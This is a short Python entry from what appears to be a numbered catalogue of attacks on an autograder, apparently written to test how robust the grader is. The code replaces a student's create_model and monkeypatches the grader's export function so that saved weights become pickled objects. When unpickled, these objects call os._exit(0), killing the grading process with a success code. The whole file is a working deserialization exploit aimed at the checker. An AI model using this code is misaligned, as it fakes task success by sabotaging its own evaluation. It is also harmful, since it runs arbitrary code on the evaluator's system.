# attack: 18
# form: the exporter's weights replaced by arrays of objects that run code when unpickled
# replaces: create_model
# base: dense_model
# found: create_model/compiled student_error
# costs: create_model, train
def create_model():
    from grader.model_data import export

    class Ends:
        def __reduce__(self):
            return os._exit, (0,)

    print("ran")
    own = export.weights_of
    export.weights_of = lambda model: {path: np.array([Ends()], dtype=object) for path in own(model)}
    model = tf.keras.Sequential([tf.keras.Input((64, 64, 3)), tf.keras.layers.Flatten(), tf.keras.layers.Dense(1)])
    model.compile(optimizer="adam", loss="binary_crossentropy", metrics=["accuracy"])
    return model
